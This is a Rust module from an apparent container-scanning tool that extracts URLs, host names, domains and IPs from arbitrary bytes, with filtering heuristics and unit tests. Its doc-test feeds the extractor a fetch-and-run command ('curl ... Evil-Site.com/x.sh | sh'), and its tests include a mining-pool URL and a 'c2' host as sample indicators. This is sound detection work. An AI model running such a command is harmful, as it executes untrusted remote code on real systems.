//! Indicator extraction from arbitrary bytes: URLs, host names, registrable domains, IPs.
//!
//! This runs over every byte of every layer in a census, so it is built around two cheap
//! prefilters instead of a regex over the whole input:
//!
//! * `memchr` for `:` followed by `//` finds URL candidates; the scheme is read backwards from there and must be
//!   one of [`crate::url::SCHEMES`] (the longest that ends at `://`, because strings in Go
//!   binaries are packed without separators: `argumenthttps://x` still yields `https://x`).
//! * `memchr` for `.` finds host and IPv4 candidates; each dot is widened to its maximal run of
//!   host bytes (`[A-Za-z0-9.-]`), the run is judged once, and scanning resumes after it, so every
//!   byte is looked at a bounded number of times whatever the input.
//!
//! A bare run (not inside a URL) is a host only when it survives filters written against what
//! real binaries and source trees contain (docs/feeds.md, "Extraction", lists them all and why):
//! the whole run must be a valid name under a known ICANN suffix (so `libc.so.6` is rejected as
//! a whole rather than trimmed to `libc.so`); it must not continue an identifier (`_`, `%`, `$`,
//! `\` before it; `_`, `(`, `@` after it); its case must be that of a written host (`os.getPid`,
//! `env.CI` are code); a one-label suffix that is also a file extension means a file (`setup.py`,
//! `README.md`); reversed DNS (`com.acme.app`), code receivers (`self.x`, `a.prototype.b`) and
//! TLDs that are everyday identifiers (`user.name`, `gc.auto`) are refused; names under post-2012
//! TLDs must stand alone (a C string, a quoted value). Inside a URL the scheme proves it is a
//! host, so only syntax and the suffix are checked.

use std::net::{IpAddr, Ipv4Addr};

use hubcensus_types::IndicatorKind;

use crate::{
    host::{MAX_HOST_LEN, host_kind, ip_is_notable, normalise_host, registrable_of_normalised},
    set::{DEFAULT_MAX_INDICATORS, IndicatorSet, WeakContext},
    url::{MAX_SCHEME_LEN, UrlHost, known_scheme, parse_url},
};

/// Default longest URL recorded, in bytes. Longer runs still yield their host.
pub const DEFAULT_MAX_URL_LEN: usize = 2_048;

/// Bounds for one extractor. Attacker data decides how many candidates there are; these decide
/// how much of it is kept.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct ExtractLimits {
    /// Distinct indicators kept per set made by [`IndicatorExtractor::new_set`] (per layer).
    pub max_indicators: usize,
    /// URLs longer than this many bytes are not recorded as `Url` (their host still is): a
    /// multi-kilobyte "URL" is a data blob, and it would bloat the indicator table.
    pub max_url_len: usize,
}

impl Default for ExtractLimits {
    fn default() -> Self {
        Self { max_indicators: DEFAULT_MAX_INDICATORS, max_url_len: DEFAULT_MAX_URL_LEN }
    }
}

/// Finds indicators in bytes. Immutable after construction, `Send + Sync`: build one and share
/// it across scanning threads.
///
/// ```
/// use hubcensus_intel::{ExtractLimits, IndicatorExtractor, IndicatorSet};
/// let x = IndicatorExtractor::new(ExtractLimits::default());
/// let mut set = IndicatorSet::default();
/// x.extract("etc/miner.sh", b"curl -s http://Cdn.Evil-Site.com/x.sh | sh; setup.py", &mut set);
/// let mut found: Vec<_> = set.into_vec().into_iter().map(|(i, _)| format!("{}={}", i.kind, i.value)).collect();
/// assert_eq!(found, ["domain=evil-site.com", "host=cdn.evil-site.com", "url=http://cdn.evil-site.com/x.sh"]);
/// ```
#[derive(Debug, Clone)]
pub struct IndicatorExtractor {
    limits: ExtractLimits,
}

impl IndicatorExtractor {
    /// An extractor with these limits.
    pub fn new(limits: ExtractLimits) -> Self {
        Self { limits }
    }

    /// The limits it was built with.
    pub fn limits(&self) -> ExtractLimits {
        self.limits
    }

    /// An empty set capped at `limits.max_indicators`.
    pub fn new_set(&self) -> IndicatorSet {
        IndicatorSet::with_cap(self.limits.max_indicators)
    }

    /// Adds to `out` every indicator found in `data`, recording `path` as where a new one was
    /// first seen. Never fails: bytes that are not an indicator are skipped. Stops early once
    /// `out` is full (it is then marked truncated).
    pub fn extract(&self, path: &str, data: &[u8], out: &mut IndicatorSet) {
        self.extract_urls(path, data, out);
        self.extract_bare(path, data, out);
    }

    fn extract_urls(&self, path: &str, data: &[u8], out: &mut IndicatorSet) {
        let mut from = 0;
        while let Some(i) = find_scheme_sep(&data[from..]) {
            if full(out) {
                return;
            }
            let sep = from + i;
            let end = url_end(data, sep + 3);
            from = end.max(sep + 3);
            let Some(start) = scheme_start(data, sep) else { continue };
            let raw = trim_url_tail(&data[start..end]);
            // invariant: url bytes are printable ASCII (see is_url_byte), so UTF-8.
            let Ok(raw) = std::str::from_utf8(raw) else { continue };
            if raw.len() <= sep - start + 3 {
                continue;
            }
            // An over-long URL is not recorded, and not copied: only its authority is parsed.
            let keep_url = raw.len() <= self.limits.max_url_len;
            // Fast path for repeats: a URL already in normal form and already held had its host
            // added with it (or the set is full and we stopped).
            if keep_url && out.contains(IndicatorKind::Url, raw) {
                continue;
            }
            let parsed = if keep_url { raw } else { authority_prefix(raw, sep - start) };
            let Some(url) = parse_url(parsed) else { continue };
            if let UrlHost::Name(name) = &url.host
                && is_reserved_example(name)
            {
                continue;
            }
            if keep_url {
                out.insert(IndicatorKind::Url, &url.normalised, path);
            }
            match url.host {
                UrlHost::Name(name) => insert_host(
                    out,
                    &name,
                    path,
                    in_comment_line(data, start).then_some(WeakContext::Comment),
                ),
                UrlHost::Ip(ip) => insert_ip(out, ip, path),
            }
        }
    }

    fn extract_bare(&self, path: &str, data: &[u8], out: &mut IndicatorSet) {
        let mut from = 0;
        while let Some(i) = memchr::memchr(b'.', &data[from..]) {
            if full(out) {
                return;
            }
            let dot = from + i;
            // A dot not followed by a host byte (a sentence's end, `...`) ends a run holding no
            // other dot (this is the first dot after `from`): never a name, so skip the walk back.
            if !data.get(dot + 1).copied().is_some_and(is_host_byte) {
                from = dot + 1;
                continue;
            }
            let mut start = dot;
            while start > from && is_host_byte(data[start - 1]) {
                start -= 1;
            }
            let mut end = dot + 1;
            while end < data.len() && is_host_byte(data[end]) {
                end += 1;
            }
            from = end;
            if end - start > MAX_HOST_LEN + 2 {
                continue; // part of a longer run: not a name
            }
            judge_run(data, start, end, path, out);
        }
    }
}

/// The first `://` in `data`. A `memchr` for `:` and a look at the two bytes after it: in
/// binaries and text `:` is rare enough that this single-byte search beats `memmem`'s
/// two-byte one.
fn find_scheme_sep(data: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(i) = memchr::memchr(b':', &data[from..]) {
        let at = from + i;
        if data.get(at + 1..at + 3) == Some(b"//") {
            return Some(at);
        }
        from = at + 1;
    }
    None
}

/// Once the set has refused an indicator it is full for good: stop scanning.
fn full(out: &IndicatorSet) -> bool {
    out.truncated()
}

/// `scheme://authority` of a URL whose scheme is `scheme_len` bytes long, at most 512 bytes.
fn authority_prefix(raw: &str, scheme_len: usize) -> &str {
    let rest = &raw[scheme_len + 3..];
    let end = rest.find(['/', '?', '#']).unwrap_or(rest.len()).min(512);
    // invariant: URL text is ASCII, so every index is a char boundary.
    raw.get(..scheme_len + 3 + end).unwrap_or(raw)
}

/// Judges one maximal run of host bytes `data[start..end]` found without a scheme.
fn judge_run(data: &[u8], start: usize, end: usize, path: &str, out: &mut IndicatorSet) {
    let before = start.checked_sub(1).map(|i| data[i]);
    let after = data.get(end).copied();
    if matches!(before, Some(b'_' | b'%' | b'$' | b'\\')) || matches!(after, Some(b'_' | b'(' | b'@')) {
        return;
    }
    // A sentence-ending dot or a dash glued to the name is punctuation, not part of it.
    let (mut s, mut e) = (start, end);
    while s < e && matches!(data[s], b'.' | b'-') {
        s += 1;
    }
    while e > s && matches!(data[e - 1], b'.' | b'-') {
        e -= 1;
    }
    // The cheapest refusal first, on the bytes: `libc.so.6`, `x.c`, `v1.2b` end in no possible
    // top-level label, whatever the set holds (two in five dotted words of a layer stop here).
    // Of those, only a dotted quad is still worth a look.
    let Some(tld_at) = top_level_label(&data[s..e]) else {
        if data[s..e].iter().all(|b| b.is_ascii_digit() || *b == b'.')
            && !preceded_by_version_word(data, s)
            // invariant: digits and dots are ASCII, so this is UTF-8.
            && let Ok(text) = std::str::from_utf8(&data[s..e])
            && let Some(ip) = parse_dotted_quad(text)
            && !looks_like_oid_or_version(ip)
        {
            insert_ip(out, IpAddr::V4(ip), path);
        }
        return;
    };
    // invariant: host bytes are ASCII.
    let Ok(text) = std::str::from_utf8(&data[s..e]) else { return };
    let (head, tld) = (&text[..tld_at - 1], &text[tld_at..]);
    // Fast path for repeats: a name already held in normal form passed these filters before,
    // and a weakly held one seen again in the same weak context (a licence URL in every file's
    // header comment) changes nothing either.
    // The context is read only for a value held weakly: most repeats are held strong.
    let held = out.held(IndicatorKind::Host, text).or_else(|| out.held(IndicatorKind::Domain, text));
    let mut why = None;
    if let Some(held) = held {
        if out.settles(held, None) {
            return;
        }
        let here = weak_context(data, s);
        if out.settles(held, here) {
            return;
        }
        why = Some(here);
    }
    let standalone = standalone_context(data, s, e);
    if !plausible_bare_name(text, head, tld, standalone) {
        return;
    }
    let Some(host) = normalise_host(text) else { return };
    if looks_like_file_name(&host) {
        return;
    }
    insert_host(out, &host, path, why.unwrap_or_else(|| weak_context(data, s)));
}

/// Why a name starting at `s` names no connection, if it does not: the domain of an e-mail
/// address, or a name on a comment line.
fn weak_context(data: &[u8], s: usize) -> Option<WeakContext> {
    if is_mail_domain(data, s) {
        Some(WeakContext::MailAddress)
    } else if in_comment_line(data, s) {
        Some(WeakContext::Comment)
    } else {
        None
    }
}

/// How far back a comment marker is looked for: a line longer than this is not a comment
/// anyone wrote, and the walk back stays bounded whatever the input.
const MAX_COMMENT_LOOKBACK: usize = 512;

/// Whether position `s` lies on a comment line of text: after optional blanks the line opens
/// with `#`, `//`, `/*`, `*` (inside a block comment), `;` or `--`. Shebangs (`#!`) are code.
fn in_comment_line(data: &[u8], s: usize) -> bool {
    let from = s.saturating_sub(MAX_COMMENT_LOOKBACK);
    let Some(start) =
        memchr::memrchr(b'\n', &data[from..s]).map(|i| from + i + 1).or((from == 0).then_some(0))
    else {
        return false;
    };
    let line = &data[start..s];
    let Some(first) = line.iter().position(|b| !matches!(b, b' ' | b'\t')) else { return false };
    match &line[first..] {
        [b'#', b'!', ..] => false,
        [b'#', ..] | [b'/', b'/', ..] | [b'/', b'*', ..] | [b'*', ..] | [b';', ..] | [b'-', b'-', ..] => true,
        _ => false,
    }
}

/// Whether the name starting at `s` is the domain of an e-mail address: `@` right before it,
/// with a local part (`bohan`, `first.last+tag`) before that.
fn is_mail_domain(data: &[u8], s: usize) -> bool {
    s >= 2
        && data[s - 1] == b'@'
        && (data[s - 2].is_ascii_alphanumeric() || matches!(data[s - 2], b'.' | b'_' | b'-' | b'+'))
}

/// Whether the name stands alone as a value: a C string, a line, a quoted literal, a
/// `key=value`, a mail address domain, a path head or `name:port`. Member accesses in code
/// (`entry.name;`, `(array.map`) do not.
fn standalone_context(data: &[u8], s: usize, e: usize) -> bool {
    let before_ok = s == 0
        || matches!(
            data[s - 1],
            0 | b'\n' | b'\r' | b'\t' | b'"' | b'\'' | b'=' | b'@' | b'/' | b'`' | b'[' | b','
        );
    let after_ok = match data.get(e) {
        None | Some(0 | b'\n' | b'\r' | b'"' | b'\'' | b'/' | b'`' | b']' | b'.') => true,
        Some(b':') => data.get(e + 1).is_some_and(u8::is_ascii_digit),
        Some(_) => false,
    };
    before_ok && after_ok
}

/// Where the top-level label of a dotted run `name` starts, when the run has one that could
/// be one: after its last dot, two or more letters, or an IDN's `xn--` form.
fn top_level_label(name: &[u8]) -> Option<usize> {
    let at = name.iter().rposition(|&b| b == b'.')? + 1;
    let tld = &name[at..];
    let letters = tld.len() >= 2 && tld.iter().all(u8::is_ascii_alphabetic);
    (letters || tld.starts_with(b"xn--")).then_some(at)
}

/// The cheap filters for a bare run `text`, already split at [`top_level_label`] (see the module
/// docs). `standalone`: see [`standalone_context`]. Allocation-free: this runs for every dotted
/// word of every layer.
fn plausible_bare_name(text: &str, head: &str, tld: &str, standalone: bool) -> bool {
    if !case_consistent(text, tld) {
        return false;
    }
    let in_list = |list: &[&str], label: &str| list.iter().any(|w| w.eq_ignore_ascii_case(label));
    if in_sorted(WORD_TLDS, tld) {
        return false;
    }
    let first = text.split('.').next().unwrap_or_default();
    let two_labels = !head.contains('.');
    if !two_labels && in_list(REVERSED_DNS_HEADS, first) {
        return false;
    }
    if head.split('.').any(|l| in_sorted(CODE_IDENTIFIERS, l) || is_simd_type(l)) {
        return false;
    }
    let classic = in_list(CLASSIC_TLDS, tld);
    let country = tld.len() == 2 || tld.starts_with("xn--");
    if two_labels && !classic && (first.len() <= 2 || first.bytes().all(|b| b.is_ascii_digit())) {
        return false; // `4.lu`, `a.id`: noise far more often than a two-letter domain
    }
    // Newer generic TLDs need the name to stand alone (a C string, a quoted value, a line).
    classic || country || standalone
}

/// Whether `label` is one of the words of `list` (sorted, lowercase), in any case: a binary
/// search, since it runs for the last label and every other label of most dotted words.
fn in_sorted(list: &[&str], label: &str) -> bool {
    list.binary_search_by(|w| w.bytes().cmp(label.bytes().map(|b| b.to_ascii_lowercase()))).is_ok()
}

/// `i32`, `f64`, `i8x16`: WebAssembly/SIMD type names (`f32.ge`, `i32.ne` in JS engines).
fn is_simd_type(label: &str) -> bool {
    let mut b = label.bytes();
    matches!(b.next(), Some(b'i' | b'f' | b'v' | b'u'))
        && label.len() > 1
        && label[1..].bytes().all(|c| c.is_ascii_digit() || c == b'x')
        && label.as_bytes()[1].is_ascii_digit()
}

/// Dotted quads that are almost always something else: ASN.1 object identifiers in crypto
/// libraries (`2.5.29.17`, `1.3.101.110`, `1.2.840.x`, `2.16.840.x`) and four-part version
/// numbers (`1.4.1.17`: every part below 32).
fn looks_like_oid_or_version(ip: Ipv4Addr) -> bool {
    let o = ip.octets();
    matches!((o[0], o[1]), (1, 2 | 3) | (2, 5 | 16)) || o.iter().all(|x| *x < 32)
}

/// Host names are written all lowercase, all uppercase, or with the first letter capitalised
/// (`Example.com` at the start of a sentence). `env.CI`, `Temporal.Duration.compare` and
/// camelCase (`os.getPid`) are code, and random binary noise rarely fits either.
fn case_consistent(text: &str, tld: &str) -> bool {
    if !text.bytes().any(|b| b.is_ascii_lowercase()) {
        return true; // all caps
    }
    if tld.bytes().any(|b| b.is_ascii_uppercase()) {
        return false;
    }
    text.split('.').enumerate().all(|(i, label)| {
        !is_camel_case(label) && (i == 0 || !label.bytes().next().is_some_and(|b| b.is_ascii_uppercase()))
    })
}

/// `getPid`, `aBc`: a lowercase letter followed later by an uppercase one. Capitalised words
/// (`Example`) and all-caps labels (`EXAMPLE`) pass; random binary noise mostly does not.
fn is_camel_case(label: &str) -> bool {
    let mut seen_lower = false;
    for b in label.bytes() {
        if b.is_ascii_lowercase() {
            seen_lower = true;
        } else if b.is_ascii_uppercase() && seen_lower {
            return true;
        }
    }
    false
}

/// `setup.py`, `README.md`, `config.h.in`: the public suffix is one label that is also a common
/// file extension. `example.co.in` passes (its suffix is `co.in`).
fn looks_like_file_name(host: &str) -> bool {
    let tld = host.rsplit('.').next().unwrap_or_default();
    FILE_EXTENSION_TLDS.contains(&tld)
        && registrable_of_normalised(host).is_some_and(|d| d.bytes().filter(|b| *b == b'.').count() == 1)
}

/// `version 1.2.3.4`, `Version: 1.2.3.4`, `ver 1.2.3.4`: a four-part version, not an address.
fn preceded_by_version_word(data: &[u8], start: usize) -> bool {
    let head = &data[start.saturating_sub(10)..start];
    let head = head.trim_ascii_end();
    let head = head.strip_suffix(b":").unwrap_or(head).trim_ascii_end();
    let lower = head.to_ascii_lowercase();
    lower.ends_with(b"version") || lower.ends_with(b"ver")
}

fn parse_dotted_quad(text: &str) -> Option<Ipv4Addr> {
    if text.split('.').count() != 4 {
        return None;
    }
    text.parse().ok() // std rejects leading zeros (`010.0.0.1`), which are ambiguous (octal)
}

fn insert_ip(out: &mut IndicatorSet, ip: IpAddr, path: &str) {
    if ip_is_notable(ip) {
        out.insert(IndicatorKind::Ip, &ip.to_string(), path);
    }
}

/// Adds a normalised host: its registrable domain as `Domain`, and the host itself as `Host`
/// when it differs. Hosts without a known ICANN suffix add nothing.
fn insert_host(out: &mut IndicatorSet, host: &str, path: &str, why: Option<WeakContext>) {
    if is_reserved_example(host) {
        return;
    }
    let mut add = |kind, value: &str| match why {
        Some(why) => out.insert_weak(kind, value, path, why),
        None => out.insert(kind, value, path),
    };
    match host_kind(host) {
        Some((IndicatorKind::Host, Some(domain))) => {
            add(IndicatorKind::Domain, domain);
            add(IndicatorKind::Host, host);
        }
        Some((kind, _)) => {
            add(kind, host);
        }
        None => {}
    }
}

/// RFC 2606 documentation domains: in every man page and test suite, never an indicator.
fn is_reserved_example(host: &str) -> bool {
    registrable_of_normalised(host)
        .is_some_and(|d| matches!(d, "example.com" | "example.net" | "example.org"))
}

fn is_host_byte(b: u8) -> bool {
    BYTE_CLASS[usize::from(b)] & HOST != 0
}

fn is_scheme_byte(b: u8) -> bool {
    BYTE_CLASS[usize::from(b)] & SCHEME != 0
}

/// Printable ASCII that can appear in a URL as written in text or code; quotes, brackets of
/// templates and whitespace end it.
fn is_url_byte(b: u8) -> bool {
    BYTE_CLASS[usize::from(b)] & URL != 0
}

const HOST: u8 = 1;
const SCHEME: u8 = 2;
const URL: u8 = 4;

/// The three byte classes as one table: the walks over host and URL runs test every byte of
/// every dotted word, and one load beats a chain of range compares (measured on the bench
/// layer's files: extraction about 6% faster).
const BYTE_CLASS: [u8; 256] = {
    let mut table = [0u8; 256];
    let mut i = 0;
    while i < 256 {
        let b = i as u8;
        let alnum = b.is_ascii_alphanumeric();
        if alnum || b == b'.' || b == b'-' {
            table[i] |= HOST;
        }
        if alnum || b == b'+' || b == b'.' || b == b'-' {
            table[i] |= SCHEME;
        }
        if matches!(b, 0x21..=0x7e)
            && !matches!(b, b'"' | b'\'' | b'<' | b'>' | b'\\' | b'^' | b'`' | b'{' | b'|' | b'}')
        {
            table[i] |= URL;
        }
        i += 1;
    }
    table
};

/// The start of the longest known scheme that ends right before `data[sep]` (`://`).
fn scheme_start(data: &[u8], sep: usize) -> Option<usize> {
    let mut start = sep;
    while start > 0 && sep - start < MAX_SCHEME_LEN && is_scheme_byte(data[start - 1]) {
        start -= 1;
    }
    (start..sep).find(|&s| std::str::from_utf8(&data[s..sep]).ok().and_then(known_scheme).is_some())
}

fn url_end(data: &[u8], from: usize) -> usize {
    let mut end = from;
    while end < data.len() && is_url_byte(data[end]) {
        end += 1;
    }
    end
}

/// Drops punctuation that ends the sentence or the code around a URL (`(see http://x.com/a).`).
fn trim_url_tail(mut url: &[u8]) -> &[u8] {
    loop {
        match url {
            [rest @ .., b'.' | b',' | b';' | b':' | b'!' | b'?' | b'*' | b']'] => url = rest,
            [rest @ .., b')'] if !rest.contains(&b'(') => url = rest,
            _ => return url,
        }
    }
}

/// Common file extensions that are also top-level domains. A bare `name.<ext>` is far more
/// often a file than a host; inside a URL (`https://sh.rustup.rs`) the name is still a host.
const FILE_EXTENSION_TLDS: &[&str] = &[
    "ac", "am", "bz", "cat", "cc", "gd", "gn", "gs", "in", "inc", "la", "md", "mk", "ml", "mm", "mo", "mov",
    "ms", "ph", "pid", "pl", "pm", "pro", "ps", "py", "rs", "sc", "sh", "so", "tab", "tf", "zip",
];

/// First labels of reversed-DNS identifiers (`com.example.app`, `org.freedesktop.dbus.name`).
const REVERSED_DNS_HEADS: &[&str] = &["com", "org", "net", "edu", "gov", "mil", "io", "android"];

/// Labels that make a dotted run a member access in source code, not a host
/// (`self.info`, `logger.info`, `array.prototype.map`, `params.context.id`). Sorted, lowercase
/// ([`in_sorted`]).
const CODE_IDENTIFIERS: &[&str] = &[
    "args",
    "cfg",
    "cls",
    "config",
    "console",
    "constructor",
    "context",
    "ctx",
    "document",
    "err",
    "exports",
    "linkonce",
    "logger",
    "logging",
    "module",
    "obj",
    "options",
    "opts",
    "params",
    "process",
    "props",
    "prototype",
    "rel",
    "rela",
    "req",
    "request",
    "res",
    "resp",
    "response",
    "self",
    "settings",
    "sys",
    "this",
    "window",
];

/// TLDs that are also everyday identifiers in code and config keys (`user.name`, `gc.auto`,
/// `multi-user.target`, `node.id`, `build.ninja`, `cnvalias.icu`): a bare name under one is
/// never taken; inside a URL it still is. Sorted, lowercase ([`in_sorted`]).
const WORD_TLDS: &[&str] = &[
    "abc",
    "as",
    "auto",
    "bar",
    "blue",
    "build",
    "call",
    "data",
    "date",
    "direct",
    "dot",
    "email",
    "events",
    "exchange",
    "fail",
    "fish",
    "foo",
    "global",
    "green",
    "group",
    "help",
    "host",
    "icu",
    "id",
    "info",
    "is",
    "java",
    "link",
    "man",
    "map",
    "men",
    "name",
    "new",
    "next",
    "ninja",
    "now",
    "open",
    "play",
    "post",
    "properties",
    "read",
    "red",
    "report",
    "run",
    "search",
    "shell",
    "store",
    "target",
    "to",
    "total",
    "win",
    "you",
];

/// Generic TLDs older than the 2012 round; names under them need no standalone context.
const CLASSIC_TLDS: &[&str] = &["com", "net", "org", "edu", "gov", "mil", "int", "biz"];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_scheme_separator_is_found_after_lone_colons_and_at_the_edges() {
        assert_eq!(find_scheme_sep(b"://"), Some(0));
        assert_eq!(find_scheme_sep(b"a:b :/ c::// d://"), Some(9));
        assert_eq!(find_scheme_sep(b"x: y:/"), None);
        assert_eq!(find_scheme_sep(b"x:"), None);
        assert_eq!(find_scheme_sep(b""), None);
    }

    #[test]
    fn the_word_lists_searched_by_halves_are_sorted_and_lowercase() {
        for list in [WORD_TLDS, CODE_IDENTIFIERS] {
            assert!(list.is_sorted(), "{list:?}");
            assert!(list.iter().all(|w| *w == w.to_ascii_lowercase()), "{list:?}");
            assert!(list.iter().all(|w| in_sorted(list, w) && in_sorted(list, &w.to_ascii_uppercase())));
        }
        assert!(!in_sorted(WORD_TLDS, "zz") && !in_sorted(CODE_IDENTIFIERS, ""));
    }

    fn found(data: &[u8]) -> Vec<String> {
        let x = IndicatorExtractor::new(ExtractLimits::default());
        let mut set = IndicatorSet::default();
        x.extract("p", data, &mut set);
        set.into_vec().into_iter().map(|(i, _)| format!("{}={}", i.kind, i.value)).collect()
    }

    #[test]
    fn scheme_is_the_longest_known_one_before_the_separator() {
        assert_eq!(
            found(b"argumenthttps://pool.acme-pool.com/"),
            ["domain=acme-pool.com", "host=pool.acme-pool.com", "url=https://pool.acme-pool.com/"]
        );
        assert_eq!(
            found(b"-o stratum+tcp://xmr.pool.acme-pool.net:3333 "),
            [
                "domain=acme-pool.net",
                "host=xmr.pool.acme-pool.net",
                "url=stratum+tcp://xmr.pool.acme-pool.net:3333"
            ]
        );
    }

    #[test]
    fn mail_domains_and_comment_lines_are_marked_weak() {
        let x = IndicatorExtractor::new(ExtractLimits::default());
        let mut set = IndicatorSet::default();
        x.extract(
            "AUTHORS",
            b"Jim <jim@meson.dyndns.org>\nsee http://www.c2.duckdns.org/x and @handle.duckdns.org\n  # docs at http://docit.bice.dyndns.org/ReST\n// mirror.myftp.org\n#!/bin/sh x.sytes.net\n",
            &mut set,
        );
        let weak: Vec<_> = set
            .into_vec_with_context()
            .into_iter()
            .filter(|(i, ..)| i.kind == IndicatorKind::Host)
            .map(|(i, _, w)| (i.value, w))
            .collect();
        assert_eq!(
            weak,
            [
                ("docit.bice.dyndns.org".into(), Some(WeakContext::Comment)),
                ("handle.duckdns.org".into(), None),
                ("meson.dyndns.org".into(), Some(WeakContext::MailAddress)),
                ("mirror.myftp.org".into(), Some(WeakContext::Comment)),
                ("www.c2.duckdns.org".into(), None),
                ("x.sytes.net".into(), None),
            ]
        );
    }

    #[test]
    fn tails_and_punctuation_are_trimmed() {
        assert_eq!(trim_url_tail(b"http://x.com/a)."), b"http://x.com/a");
        assert_eq!(trim_url_tail(b"http://x.com/a_(b)"), b"http://x.com/a_(b)");
    }

    #[test]
    fn camel_case_is_recognised() {
        assert!(is_camel_case("getPid"));
        assert!(!is_camel_case("Example"));
        assert!(!is_camel_case("EXAMPLE"));
    }
}
